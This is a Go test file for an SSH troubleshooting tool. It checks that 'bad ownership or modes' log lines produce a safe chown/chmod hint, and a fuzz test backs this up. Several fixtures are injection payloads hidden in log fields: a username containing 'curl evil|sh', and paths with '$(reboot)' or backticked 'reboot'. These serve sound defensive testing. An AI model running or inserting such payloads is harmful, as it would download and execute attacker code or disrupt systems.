package ssh

import (
	"strings"
	"testing"
	"time"

	"github.com/omamori-guard/omamori/chain"
	"github.com/omamori-guard/omamori/words"
)

func TestModes(t *testing.T) {
	const (
		refused = "Authentication refused: bad ownership or modes for "
		hint    = "By whatever way in is left: chown owner /home/owner/.ssh/authorized_keys && chmod go-w /home/owner/.ssh/authorized_keys"
		look    = "By whatever way in is left, see which file the log means, and let nobody but owner write to it: journalctl -u ssh -n 20"
	)
	now := time.Date(2026, 11, 24, 19, 0, 5, 0, time.Local)
	iso := now.Format("2006-01-02T15:04:05.000000Z07:00 ")
	l := &link{settings: settings{User: "owner", Service: "ssh"}, address: "127.0.0.1:22"}
	p := chain.Broke("wrong_key", chain.Say("ssh.wrong_key"), chain.Say("ssh.wrong_key_hint"))
	p.At = now.Add(-time.Second)
	for name, c := range map[string]struct {
		line, next string
		unit       bool // the line is of systemd's log, which keeps the times apart
		at         time.Time
	}{
		"systemd's log":     {line: refused + "file /home/owner/.ssh/authorized_keys", next: hint, unit: true, at: now},
		"auth.log":          {line: iso + "host sshd-session[7]: " + refused + "file /home/owner/.ssh/authorized_keys", next: hint},
		"an older auth.log": {line: "Nov 24 19:00:04 host sshd[7]: " + refused + "file /home/owner/.ssh/authorized_keys", next: hint},
		"an odd folder":     {line: refused + "directory /home/$(reboot)/.ssh", next: look, unit: true, at: now},
		"of another trial":  {line: refused + "file /home/owner/.ssh/authorized_keys", unit: true, at: now.Add(-time.Minute)},
		"of another day":    {line: "Nov 23 19:00:04 host sshd[7]: " + refused + "file /home/owner/.ssh/authorized_keys"},
		"of who knows when": {line: refused + "file /home/owner/.ssh/authorized_keys"},
		// Anybody may call himself what he likes: ssh -l '…' host.
		"a hostile name": {line: "Invalid user " + refused + "file /x;curl evil|sh # from 192.0.2.1 port 4", unit: true, at: now},
		"a plain one":    {line: "Invalid user " + refused + "file /etc/shadow from 192.0.2.1 port 4", unit: true, at: now},
		"in auth.log":    {line: iso + "host sshd[7]: Invalid user sshd[8]: " + refused + "file /etc/shadow from 192.0.2.1 port 4"},
		"of another":     {line: iso + "host su[7]: " + refused + "file /etc/shadow"},
	} {
		e := chain.Evidence{Service: "ssh", At: now, Process: chain.Process{PID: 7, Running: true, State: "S"}, Log: []string{c.line, "Connection closed"}}
		if c.unit {
			e.Times = []time.Time{c.at, c.at}
		}
		plan := l.Plan(p, e)
		want, evidence := "wrong_key", 0
		if c.next != "" {
			want, evidence = "wrong_permissions", 1
		}
		next := words.English.Say(plan.Next)
		if plan.Cause != want || len(plan.Deeds) > 0 || len(plan.Evidence) != evidence || c.next != "" && next != c.next || strings.Contains(next, "curl") {
			t.Errorf("%s: %+v: %s", name, plan, next)
		}
	}
}

// FuzzModes: whatever the log says, no command is made of it but of a plain path.
func FuzzModes(f *testing.F) {
	f.Add("Authentication refused: bad ownership or modes for file /home/owner/.ssh/authorized_keys")
	f.Add("Invalid user Authentication refused: bad ownership or modes for file /x;curl evil|sh # from 192.0.2.1 port 4")
	f.Add("Authentication refused: bad ownership or modes for directory /home/`reboot`")
	l := &link{settings: settings{User: "owner", Service: "ssh"}}
	now := time.Date(2026, 11, 24, 19, 0, 5, 0, time.UTC)
	f.Fuzz(func(t *testing.T, line string) {
		plan, ok := l.modes(chain.Proof{At: now}, chain.Evidence{At: now, Log: []string{line}, Times: []time.Time{now}})
		if !ok || plan.Next.Key != "ssh.modes_hint" {
			return
		}
		next := words.English.Say(plan.Next)
		if !strings.HasPrefix(line, "Auth") && !strings.Contains(line, "]: Auth") || strings.ContainsAny(strings.Replace(next, " && ", "", 1), "\n\t'\"$`\\;&|<>()*?[]{}!#~") {
			t.Errorf("%q: %s", line, next)
		}
	})
}
